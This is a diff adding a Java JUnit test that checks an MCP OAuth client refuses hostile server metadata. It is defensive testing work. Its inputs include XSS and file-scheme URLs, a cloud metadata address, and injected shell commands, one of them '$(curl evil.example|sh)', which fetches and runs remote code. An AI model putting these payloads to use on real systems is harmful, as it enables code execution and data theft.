@@ -1,0 +1,129 @@
+package dev.mcpoauth.cookbook.keycloakdcr;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.net.URI;
+import java.util.List;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.function.Function;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/**
+ * A malicious or broken MCP server hands the client bad metadata. The client must refuse each
+ * with a clear error before it fetches, opens or registers anything at the bad URL.
+ */
+class HostileMetadataTest {
+
+    private HostileServer server;
+    private final AtomicInteger browserOpened = new AtomicInteger();
+    private final AuthorizationUserAgent recordingBrowser = (Function<URI, URI> urlFor) -> {
+        browserOpened.incrementAndGet();
+        throw new AssertionError("the browser must never be opened");
+    };
+
+    @BeforeEach
+    void start() throws Exception {
+        server = new HostileServer();
+    }
+
+    @AfterEach
+    void stop() {
+        server.close();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "javascript:alert(document.cookie)",
+            "JaVaScRiPt:alert(1)",
+            " javascript:alert(1)",
+            "file:///etc/passwd",
+            "data:text/html,<script>alert(1)</script>",
+            "https://auth.example/authorize?x=$(curl evil.example|sh)",
+            "https://auth.example/authorize`touch /tmp/pwned`",
+            "https://auth.example/authorize\u0000.evil",
+            "calc.exe",
+            "http://auth.example.com/authorize"})
+    void refusesADangerousAuthorizationEndpoint(String endpoint) {
+        server.serverMetadata(m -> m.put("authorization_endpoint", endpoint));
+
+        assertRefused("authorization_endpoint");
+
+        assertThat(server.requestedPaths()).doesNotContain("POST /register");
+    }
+
+    @Test
+    void refusesAPlainHttpTokenEndpointOffLoopback() {
+        server.serverMetadata(m -> m.put("token_endpoint", "http://auth.example.com/token"));
+
+        assertRefused("token_endpoint is http on a non-loopback host");
+    }
+
+    @Test
+    void refusesAServerWithoutS256() {
+        server.serverMetadata(m -> m.put("code_challenge_methods_supported", List.of("plain")));
+
+        assertRefused("does not list S256 in code_challenge_methods_supported");
+        assertThat(server.requestedPaths()).doesNotContain("POST /register");
+    }
+
+    @Test
+    void refusesAServerThatDoesNotListPkceAtAll() {
+        server.serverMetadata(m -> m.remove("code_challenge_methods_supported"));
+
+        assertRefused("does not list S256");
+    }
+
+    @Test
+    void refusesMetadataWhoseIssuerIsNotTheOneAskedFor() {
+        server.serverMetadata(m -> m.put("issuer", "https://accounts.other.example"));
+
+        assertRefused("names issuer https://accounts.other.example, but it was fetched for " + server.origin());
+    }
+
+    @Test
+    void refusesResourceMetadataForAnotherResource() {
+        server.resourceMetadata(m -> m.put("resource", "https://api.other.example/mcp"));
+
+        assertRefused("is for https://api.other.example/mcp, not for " + server.mcpUrl());
+        assertThat(server.requestedPaths()).doesNotContain("GET /.well-known/oauth-authorization-server");
+    }
+
+    @Test
+    void refusesAnAuthorizationServerWithADangerousUrl() {
+        server.resourceMetadata(m -> m.put("authorization_servers", List.of("file:///etc/passwd")));
+
+        assertRefused("authorization_servers entry uses the scheme 'file'");
+    }
+
+    @Test
+    void refusesAResourceMetadataUrlOffLoopbackOverHttp() {
+        // Exercised through the parser directly: the header is what a hostile server controls.
+        assertThatThrownBy(() -> SafeUrl.check("http://169.254.169.254/latest/meta-data", "resource_metadata"))
+                .isInstanceOf(UnsafeUrlException.class)
+                .hasMessageContaining("https is required off loopback");
+    }
+
+    private void assertRefused(String expectedMessagePart) {
+        McpOAuthClient client = McpOAuthClient.builder(server.mcpUrl()).userAgent(recordingBrowser).build();
+
+        assertThatThrownBy(client::connect)
+                .satisfies(error -> assertThat(rootAuthorizationError(error)).isNotNull()
+                        .extracting(Throwable::getMessage).asString().contains(expectedMessagePart));
+        assertThat(browserOpened).hasValue(0);
+        assertThat(server.requestedPaths()).noneMatch(p -> p.contains("/authorize") || p.contains("/token"));
+    }
+
+    static McpAuthorizationException rootAuthorizationError(Throwable error) {
+        for (Throwable t = error; t != null; t = t.getCause()) {
+            if (t instanceof McpAuthorizationException e) {
+                return e;
+            }
+        }
+        return null;
+    }
+}
